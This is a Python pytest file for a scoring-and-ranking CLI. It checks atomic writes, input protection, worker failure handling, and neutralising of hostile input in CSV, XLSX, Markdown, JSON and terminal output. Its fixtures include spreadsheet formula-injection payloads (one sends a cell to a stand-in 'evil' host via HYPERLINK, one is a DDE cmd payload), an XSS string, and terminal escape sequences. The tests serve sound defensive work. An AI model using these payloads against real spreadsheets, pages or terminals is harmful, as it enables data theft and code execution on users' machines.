"""What the commands write can be trusted (issue 18): an output never destroys an input, a file is
written whole or not at all, a worker that dies stops the run, and texts from the input are never
run by what opens the output (a spreadsheet, a Markdown viewer, a terminal)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
import textwrap
import threading
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, strategies as st

import par_rules
from par_rules import ParRulesError, RecordError, rank, score_many
from par_rules.cli import main
from par_rules.files import Table, read_records, render_table, replace_atomically, spreadsheet_text, terminal_text, write_table

OLD = ["example/par-index/district", "examples/district-2024.json"]
NEW = ["examples/methodologies/example/par-index/district/2025.yaml", "examples/district-2025.csv"]
ROOT = Path(__file__).resolve().parent.parent

# What a terminal obeys rather than shows.
CONTROLS = [chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A)]]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


def hostile_records(tmp_path: Path, names: list[str], units: list[str] | None = None) -> Path:
    """The 2025 example file with its units' names (and ids) replaced."""
    header, *rows = Path(NEW[1]).read_text(encoding="utf-8").splitlines()
    written = []
    for number, row in enumerate(rows):
        unit, _, rest = row.split(";", 2)
        name = names[number % len(names)]
        if units is not None:
            unit = units[number % len(units)]
        written.append(";".join(['"' + unit.replace('"', '""') + '"', '"' + name.replace('"', '""') + '"', rest]))
    path = tmp_path / "hostile.csv"
    path.write_text("\n".join([header, *written]) + "\n", encoding="utf-8")
    return path


# --------------------------------------------------------------------------- -o is never an input


@pytest.mark.parametrize("link", ["same", "symlink", "hardlink", "relative"])
@pytest.mark.parametrize("command", ["score", "rank"])
def test_an_output_that_is_the_records_file_is_refused_and_the_records_kept(tmp_path: Path, monkeypatch: Any, link: str, command: str) -> None:
    records = tmp_path / "units.csv"
    records.write_bytes(Path(NEW[1]).read_bytes())
    before = records.read_bytes()
    output = {"same": records, "symlink": tmp_path / "link.csv", "hardlink": tmp_path / "hard.csv", "relative": Path("units.csv")}[link]
    if link == "symlink":
        output.symlink_to(records)
    elif link == "hardlink":
        os.link(records, output)
    monkeypatch.chdir(tmp_path)
    code, _, err = run(command, str(ROOT / NEW[0]), str(records), "-o", str(output))
    assert code == 2 and "is the input file" in err and "choose another output file" in err
    assert records.read_bytes() == before


def test_an_output_that_is_the_methodology_or_a_second_input_is_refused(tmp_path: Path) -> None:
    methodology = tmp_path / "2025.yaml"
    methodology.write_bytes(Path(NEW[0]).read_bytes())
    previous, mapping = tmp_path / "previous.json", tmp_path / "mapping.yaml"
    previous.write_bytes(Path(OLD[1]).read_bytes())
    mapping.write_text('"2.3": null\n', encoding="utf-8")
    kept = {path: path.read_bytes() for path in (methodology, previous, mapping)}
    for output in (methodology, previous, mapping):
        for args in (
            ["score", str(methodology), NEW[1], "--format", "csv", "--jobs", "2"],
            ["rank", str(methodology), NEW[1], "--format", "json"],
            ["compare", OLD[0], str(previous), str(methodology), NEW[1], "--mapping", str(mapping)],
        ):
            if output != methodology and args[0] != "compare":
                continue
            code, _, err = run(*args, "-o", str(output))
            assert code == 2 and "is the input file" in err, (args, output)
    assert {path: path.read_bytes() for path in kept} == kept
    # A methodology that extends another is read from both (and from what that one extends).
    tree = tmp_path / "tree" / "vn" / "moha" / "par-index" / "province"
    tree.mkdir(parents=True)
    for version in ("2019", "2020", "2022"):
        (tree / f"{version}.yaml").write_bytes((ROOT / "methodologies/vn/moha/par-index/province" / f"{version}.yaml").read_bytes())
    oldest = (tree / "2019.yaml").read_bytes()
    code, _, err = run("rank", str(tree / "2022.yaml"), OLD[1], "--format", "csv", "-o", str(tree / "2019.yaml"))
    assert code == 2 and "is the input file" in err and (tree / "2019.yaml").read_bytes() == oldest
    # A methodology given as an id is read from its versions' files: they are inputs too.
    from par_rules.engine._registry import versions

    shipped = versions(OLD[0])[0].path
    code, _, err = run("rank", OLD[0], OLD[1], "--format", "csv", "-o", str(shipped))
    assert code == 2 and "is the input file" in err


# --------------------------------------------------------------------------- whole or nothing


def test_a_file_is_replaced_only_when_the_new_one_is_whole(tmp_path: Path) -> None:
    target = tmp_path / "results.csv"
    target.write_text("the previous results\n", encoding="utf-8")
    target.chmod(0o640)
    with pytest.raises(KeyboardInterrupt), replace_atomically(target) as handle:
        handle.write("half of the new")
        raise KeyboardInterrupt
    assert target.read_text(encoding="utf-8") == "the previous results\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["results.csv"]  # no temporary file left
    with replace_atomically(target) as handle:
        handle.write("the new results\n")
    assert target.read_text(encoding="utf-8") == "the new results\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o640  # the permissions of the file it replaces
    link = tmp_path / "latest.csv"
    link.symlink_to(target)
    with replace_atomically(link) as handle:
        handle.write("through the link\n")
    assert link.is_symlink() and target.read_text(encoding="utf-8") == "through the link\n"
    umask = os.umask(0o022)
    try:
        with replace_atomically(tmp_path / "new.csv") as handle:
            handle.write("x")
    finally:
        os.umask(umask)
    assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o644  # as open() makes a new file


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may write any file")
def test_a_read_only_file_is_not_replaced(tmp_path: Path) -> None:
    target = tmp_path / "kept.csv"
    target.write_text("kept\n", encoding="utf-8")
    target.chmod(0o444)
    with pytest.raises(PermissionError):
        write_table(Table(("unit",), (("a",),)), "csv", target)
    assert target.read_text(encoding="utf-8") == "kept\n"


def test_a_run_stopped_in_the_middle_leaves_the_previous_output(tmp_path: Path, monkeypatch: Any) -> None:
    """The streaming CSV of score (with and without the progress bar) and the breakdowns."""
    from par_rules.cli import _units as cli_units

    real = cli_units.read_records

    def interrupted(path: str, **options: Any) -> Any:
        for number, item in enumerate(real(path, **options)):
            if number == 4:
                raise KeyboardInterrupt  # Ctrl-C, after some rows are written
            yield item

    monkeypatch.setattr(cli_units, "read_records", interrupted)
    for name, options in [("out.csv", []), ("out.csv", ["--progress"]), ("out.txt", ["--format", "text"])]:
        output = tmp_path / name
        output.write_text("the previous results\n", encoding="utf-8")
        result = CliRunner().invoke(main, ["score", *NEW, "-o", str(output), *options])
        assert result.exit_code == 1 and "Aborted" in result.stderr  # click's answer to Ctrl-C
        assert output.read_text(encoding="utf-8") == "the previous results\n", options
        assert not [path for path in tmp_path.iterdir() if path.suffix == ".tmp"]


@pytest.mark.parametrize("suffix", ["csv", "json", "md", "txt", "xlsx"])
@pytest.mark.parametrize("command", ["score", "rank"])
def test_a_full_disk_leaves_the_previous_output_in_every_format(tmp_path: Path, command: str, suffix: str) -> None:
    """The file size limit (RLIMIT_FSIZE) makes a write fail part way, as a full disk does."""
    pytest.importorskip("resource")
    output = tmp_path / f"out.{suffix}"
    output.write_text("previous\n", encoding="utf-8")
    script = textwrap.dedent(
        f"""
        import resource, signal, sys
        from par_rules.cli import main
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (400, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))
        main({[command, *NEW, "-o", str(output)]!r})
        """
    )
    done = subprocess.run([sys.executable, "-B", "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert done.returncode == 1 and f"cannot write {output}" in done.stderr, done.stderr
    assert output.read_text(encoding="utf-8") == "previous\n"
    assert [path.name for path in tmp_path.iterdir()] == [output.name]


def test_every_format_and_command_writes_a_whole_file(tmp_path: Path) -> None:
    for command in (["score", *NEW], ["rank", *NEW], ["compare", *OLD, *NEW]):
        for suffix in ("csv", "json", "md", "txt", "xlsx"):
            output = tmp_path / f"{command[0]}.{suffix}"
            output.write_text("PREVIOUS CONTENT\n", encoding="utf-8")
            code, out, err = run(*command, "-o", str(output))
            assert code == 0 and out == "" and f"wrote {output}" in err, (command, suffix, err)
            if suffix == "xlsx":
                assert openpyxl.load_workbook(output).worksheets[0].max_row > 1
            else:
                assert "PREVIOUS CONTENT" not in output.read_text(encoding="utf-8-sig")
    assert sorted(path.suffix for path in tmp_path.iterdir()) == sorted([".csv", ".json", ".md", ".txt", ".xlsx"] * 3)


def test_score_text_is_written_to_the_file_given(tmp_path: Path) -> None:
    output = tmp_path / "breakdowns.txt"
    code, out, _ = run("score", *NEW, "--format", "text", "-o", str(output))
    assert code == 0 and out == ""
    assert output.read_text(encoding="utf-8").count("↳") > 7


# --------------------------------------------------------------------------- a worker that dies


KILLER = """
import multiprocessing, os, signal, sys
from par_rules.cli import _units as cli_units
from par_rules.cli import main

real = cli_units.read_records

def killing(path, **options):
    for number, item in enumerate(real(path, **options)):
        if number == 900:  # some chunks scored and written, others handed out
            for child in multiprocessing.active_children():
                os.kill(child.pid, signal.SIGKILL)  # as the out-of-memory killer does
        yield item

cli_units.read_records = killing
main(sys.argv[1:])
"""


def many_rows(tmp_path: Path, count: int) -> Path:
    header, *rows = Path(NEW[1]).read_text(encoding="utf-8").splitlines()
    path = tmp_path / "many.csv"
    path.write_text("\n".join([header] + [rows[number % len(rows)] for number in range(count)]) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("to_file", [True, False])
def test_a_killed_worker_stops_the_run_with_an_error_not_a_hang(tmp_path: Path, to_file: bool) -> None:
    records = many_rows(tmp_path, 3000)
    output = tmp_path / "out.csv"
    output.write_text("previous\n", encoding="utf-8")
    args = [sys.executable, "-B", "-c", KILLER, "score", NEW[0], str(records), "--jobs", "2", "--format", "csv"] + (["-o", str(output)] if to_file else [])
    try:
        done = subprocess.run(args, cwd=ROOT, capture_output=True, text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(ROOT)})
    except subprocess.TimeoutExpired:
        pytest.fail("the run waited for ever for the rows of a dead worker")
    assert done.returncode == 1, done.stderr
    assert "a worker process ended before it finished its rows" in done.stderr and "the run is stopped at row" in done.stderr
    if to_file:
        assert output.read_text(encoding="utf-8") == "previous\n" and "out.csv was not written" in done.stderr
        assert sorted(path.name for path in tmp_path.iterdir()) == ["many.csv", "out.csv"]
    else:
        stopped_at = int(done.stderr.split("the run is stopped at row ")[1].split(";")[0])
        rows = done.stdout.splitlines()[1:]
        assert len(rows) == stopped_at - 2  # every row before it (the header is row 1), none after


def within(seconds: float, function: Callable[[], Any]) -> Any:
    """function(), or a failure if it has not returned after ``seconds`` (no hang in CI)."""
    outcome: dict[str, Any] = {}

    def target() -> None:
        try:
            outcome["value"] = function()
        except BaseException as error:  # noqa: BLE001 (handed to the test)
            outcome["error"] = error

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    if thread.is_alive():
        pytest.fail(f"still waiting after {seconds} s")
    if "error" in outcome:
        raise outcome["error"]
    return outcome["value"]


def test_score_rows_raises_when_a_worker_is_killed(tmp_path: Path) -> None:
    import multiprocessing
    import signal

    from par_rules.units import field_columns
    from par_rules.units._parallel import score_rows

    methodology = par_rules.load(NEW[0])
    records = list(read_records(many_rows(tmp_path, 2000)))
    rows = score_rows(methodology, iter(records), field_columns([methodology]), jobs=2)
    assert len(within(60, lambda: next(rows))) > 5  # the workers are up
    for child in multiprocessing.active_children():
        os.kill(child.pid, signal.SIGKILL)
    with pytest.raises(ParRulesError, match="a worker process ended"):
        within(60, lambda: list(rows))


# --------------------------------------------------------------------------- spreadsheets


FORMULAS = ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
READ_BACK = [formula.strip() for formula in FORMULAS]  # as the records reader gives them (stripped)


def test_csv_text_cells_from_the_input_never_start_a_formula(tmp_path: Path) -> None:
    path = hostile_records(tmp_path, FORMULAS, units=[f"={n}+{n}" for n in range(7)])
    outputs = {
        "score csv": run("score", NEW[0], str(path), "--format", "csv")[1],
        "score --jobs": run("score", NEW[0], str(path), "--format", "csv", "--jobs", "2")[1],
        "rank csv": run("rank", NEW[0], str(path), "--format", "csv")[1],
    }
    assert outputs["score csv"] == outputs["score --jobs"]
    for what, text in outputs.items():
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == 7, what
        for row in rows:
            assert row["unit"].startswith("'=") and row["name"].startswith("'") and row["name"][1:] in READ_BACK, (what, row)
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (what, column, cell)
            assert Decimal(row["index"]) > 0 and not row["index"].startswith("'")  # numbers stay numbers


def test_negative_numbers_stay_numbers_and_text_is_neutralised_in_compare(tmp_path: Path) -> None:
    table = Table(("unit", "name", "change"), (("-5", "@x", Decimal("-1.5")), ("a", "=1", -2)))
    rows = list(csv.reader(io.StringIO(render_table(table, "csv"))))
    assert rows[1:] == [["'-5", "'@x", "-1.5"], ["a", "'=1", "-2"]]
    code, out, _ = run("compare", *OLD, *NEW, "--format", "csv")
    changes = [row["index_change"] for row in csv.DictReader(io.StringIO(out))]
    assert code == 0 and any(change.startswith("-") for change in changes) and all(Decimal(change) is not None for change in changes)


def test_xlsx_text_cells_are_text_never_formulas(tmp_path: Path) -> None:
    path = hostile_records(tmp_path, FORMULAS + ["tab\x1bescape"], units=[f"={n}+{n}" for n in range(7)])
    for command in ("score", "rank"):
        output = tmp_path / f"{command}.xlsx"
        code, _, err = run(command, NEW[0], str(path), "-o", str(output))
        assert code == 0, err
        sheet = openpyxl.load_workbook(output)[ "results"]
        headers = [cell.value for cell in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            cells = dict(zip(headers, row))
            for column in ("unit", "name"):
                assert cells[column].data_type == "s", (column, cells[column].value)
            assert cells["unit"].value.startswith("=") and cells["unit"].quotePrefix  # the text exact, shown as text
            assert cells["name"].value in READ_BACK or cells["name"].value == "tab\\x1bescape"
            assert cells["index"].data_type == "n"  # numbers stay numbers
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@given(st.text(max_size=12), st.decimals(allow_nan=False, allow_infinity=False, places=3))
def test_any_text_in_csv_is_inert_and_reads_back_and_numbers_are_untouched(text: str, number: Decimal) -> None:
    table = Table(("name", "value"), ((text, number),))
    [[name, value]] = list(csv.reader(io.StringIO(render_table(table, "csv"))))[1:]
    assert not name.startswith(FORMULA_STARTS)
    assert name == text or (text.startswith(FORMULA_STARTS) and name == "'" + text)
    assert Decimal(value) == number
    assert spreadsheet_text(name) == name  # neutralised once only


# --------------------------------------------------------------------------- Markdown and JSON


def test_markdown_escapes_its_markup_and_html(tmp_path: Path) -> None:
    nasty = "<img src=x onerror=alert(1)>|[link](javascript:alert(1))`code`*\\"
    table = Table(("unit", "name", "index"), (("a", nasty, Decimal("-1.5")),))
    text = render_table(table, "md")
    row = text.splitlines()[2]
    unescaped = [position for position, character in enumerate(row) if character in "|<>[]`*" and row[position - 1] != "\\"]
    assert [row[position] for position in unescaped] == ["|", "|", "|", "|"]  # the 3 cells' borders only
    assert "| -1.5 |" in row
    code, out, _ = run("rank", NEW[0], str(hostile_records(tmp_path, [nasty])), "--format", "md")
    assert code == 0 and "\\<img" in out and not re.search(r"(?<!\\)[<\[\]]", out)


def test_json_reads_back_exactly_and_shows_no_control_character(tmp_path: Path) -> None:
    names = ["a\x1b[31mred", "b\x9b2J", "c\u202eevil", "d\x7f\u2066"]
    code, out, _ = run("rank", NEW[0], str(hostile_records(tmp_path, names)), "--format", "json")
    assert code == 0 and not any(character in out for character in CONTROLS if character != "\n")
    assert sorted({row["name"] for row in json.loads(out)}) == sorted(names)


# --------------------------------------------------------------------------- the terminal


ESCAPES = ["\x1b]0;pwned\x07", "\x1b[2J\x1b[31mred", "\x9b31m", "right\u202etxt.exe", "\u2066iso\u2069", "del\x7f", "bell\x07"]


@pytest.mark.parametrize(
    "args",
    [
        ["score"],
        ["score", "--format", "table"],
        ["score", "--format", "md"],
        ["rank"],
        ["explain"],
        ["explain", "--node", "1"],
        ["gaps", "--unit", "u1"],
        ["whatif", "--unit", "u1", "--set", "online_rate=60"],
    ],
)
def test_no_control_character_from_the_input_reaches_the_terminal(tmp_path: Path, args: list[str]) -> None:
    path = hostile_records(tmp_path, ESCAPES, units=[f"u{n}" for n in range(7)])
    code, out, err = run(args[0], NEW[0], str(path), *args[1:])
    assert code == 0, err
    for text in (out, err):
        assert not any(character in text for character in CONTROLS if character not in "\n"), [c for c in CONTROLS if c in text]
    if args in (["score"], ["score", "--format", "table"], ["rank"], ["explain"]):  # the names are shown
        assert "\\x1b[2J\\x1b[31mred" in out and "right\\u202etxt.exe" in out  # shown, visibly


def test_error_messages_quoting_the_input_show_escapes(tmp_path: Path) -> None:
    path = hostile_records(tmp_path, ["x"], units=["\x1b[2Jsame"])  # every unit the same: refused by rank
    code, out, err = run("rank", NEW[0], str(path))
    assert code == 1 and "\\x1b[2Jsame appears more than once" in err and "\x1b" not in err + out
    bad = tmp_path / "bad\x1b[31m.yaml"
    bad.write_text("format: 1\nid: [\x1b[2J\n", encoding="utf-8")
    code, out, err = run("check", str(bad))
    assert code == 1 and "\x1b" not in out + err and "\\x1b" in out + err


def test_csv_on_a_terminal_shows_escapes_and_csv_to_a_pipe_is_exact(tmp_path: Path, monkeypatch: Any) -> None:
    from par_rules.cli import _units as cli_units

    path = hostile_records(tmp_path, ESCAPES)
    piped = run("score", NEW[0], str(path), "--format", "csv")[1]
    assert "\x1b[2J\x1b[31mred" in piped  # data for a program: exact

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    terminal = Terminal()
    monkeypatch.setattr(cli_units.sys, "stdout", terminal)
    assert cli_units._data_stream().write(piped) and terminal.getvalue() == terminal_text(piped)
    assert "\x1b" not in terminal.getvalue()


@given(st.text())
def test_terminal_text_shows_every_control_character_visibly(text: str) -> None:
    shown = terminal_text(text, one_line=True)
    assert not any(character in shown for character in CONTROLS)
    assert terminal_text(text) == text or any(character in text for character in CONTROLS)
    if not any(character in text for character in CONTROLS):
        assert shown == text  # nothing else is changed


# --------------------------------------------------------------------------- ranking a batch


def test_rank_takes_score_many_output_with_refused_records() -> None:
    methodology = par_rules.load(NEW[0])
    outputs = list(score_many(methodology, read_records(NEW[1])))
    bad = {"unit": "broken", "online_rate": "lots"}
    mixed = outputs[:2] + list(score_many(methodology, [(9, bad)])) + outputs[2:]
    ranking = rank(mixed)
    assert [entry.unit for entry in ranking] == [entry.unit for entry in rank(outputs)]  # the good ones, as ranked alone
    assert len(ranking.refused) == 1 and isinstance(ranking.refused[0], RecordError)
    assert ranking.notes[-1].startswith("row 9 is not ranked: its record was refused (")
    with pytest.raises(TypeError, match="rank takes results"):
        rank([outputs[0], {"unit": "x"}])  # type: ignore[list-item]
